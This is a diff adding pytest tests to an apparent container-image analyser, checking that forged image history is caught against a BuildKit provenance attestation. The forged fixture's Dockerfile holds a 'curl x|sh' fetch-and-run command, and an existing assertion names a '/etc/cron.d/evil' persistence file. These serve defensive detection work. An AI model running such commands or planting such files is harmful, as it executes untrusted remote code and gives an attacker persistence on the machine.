@@ -276,3 +276,61 @@ def test_maintainer_script_output_is_explained_but_smuggled_files_are_not(tmp_pa
     assert step["/usr/share/zoneinfo/UTC"] == "file of a package installed by this step"
     [p] = codes(r, "file.persistence")
     assert p.path == "/etc/cron.d/evil" and p.severity.value == "high"
+
+
+def _attested(tmp_path, dockerfile: str, recorded_layers: list[str] | None, name: str) -> Path:
+    """An OCI archive whose index carries a BuildKit-style provenance attestation."""
+    import base64
+    from hostile import hexof, jbytes, sha
+
+    layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("hi", b"hi\n")]]
+    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+               {"created_by": "RUN /bin/sh -c echo hi > /hi # buildkit", "comment": "buildkit.dockerfile.v0"}]
+
+    def mutate(cfg):
+        cfg["history"] = history
+    oci = Oci(layers=[Layer.of(tar_bytes(m)) for m in layers], mutate_config=mutate)
+    cfg, man, idx = oci.documents()
+    layer_descs = json.loads(man)["layers"]
+    recorded = layer_descs if recorded_layers is None else [
+        {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": d, "size": 1} for d in recorded_layers]
+    statement = jbytes({
+        "_type": "https://in-toto.io/Statement/v0.1", "predicateType": "https://slsa.dev/provenance/v1",
+        "subject": [{"name": "x", "digest": {"sha256": hexof(man)}}],
+        "predicate": {"runDetails": {"metadata": {"buildkit_metadata": {
+            "source": {"infos": [{"filename": "Dockerfile",
+                                  "data": base64.b64encode(dockerfile.encode()).decode()}]},
+            "layers": {"step1:0": [recorded]}}}}}})
+    empty = b"{}"
+    att = jbytes({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
+                  "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": sha(empty), "size": 2},
+                  "layers": [{"mediaType": "application/vnd.in-toto+json", "digest": sha(statement),
+                              "size": len(statement),
+                              "annotations": {"in-toto.io/predicate-type": "https://slsa.dev/provenance/v1"}}]})
+    index = json.loads(idx)
+    index["manifests"].append({"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": sha(att),
+                               "size": len(att), "platform": {"architecture": "unknown", "os": "unknown"},
+                               "annotations": {"vnd.docker.reference.type": "attestation-manifest",
+                                               "vnd.docker.reference.digest": sha(man)}})
+    members = [m for m in oci.members() if not (isinstance(m, M) and m.name == "index.json")]
+    members += [M(f"blobs/sha256/{hexof(b)}", b) for b in (statement, empty, att)]
+    members.append(M("index.json", jbytes(index)))
+    p = tmp_path / name
+    p.write_bytes(tar_bytes(members))
+    return p
+
+
+def test_provenance_agrees_with_history(tmp_path):
+    p = _attested(tmp_path, "FROM scratch\nADD rootfs.tar /\nRUN echo hi > /hi\n", None, "ok.tar")
+    r = analyze(str(p))
+    assert not [f for f in r.findings if "provenance" in f.detail], [f.detail for f in r.findings]
+    assert len(r.images) == 1  # the attestation is not an image
+
+
+def test_provenance_contradicts_rewritten_history(tmp_path):
+    p = _attested(tmp_path, "FROM scratch\nADD rootfs.tar /\nRUN echo pwned > /hi && curl x|sh\n",
+                  ["sha256:" + "0" * 64], "forged.tar")
+    r = analyze(str(p))
+    found = [f for f in codes(r, "history.unexplained-change") if "provenance" in f.detail]
+    assert {(f.history, f.layer) for f in found} == {(1, 1)}
+    assert len(found) == 2  # the instruction and the layer both contradict the record
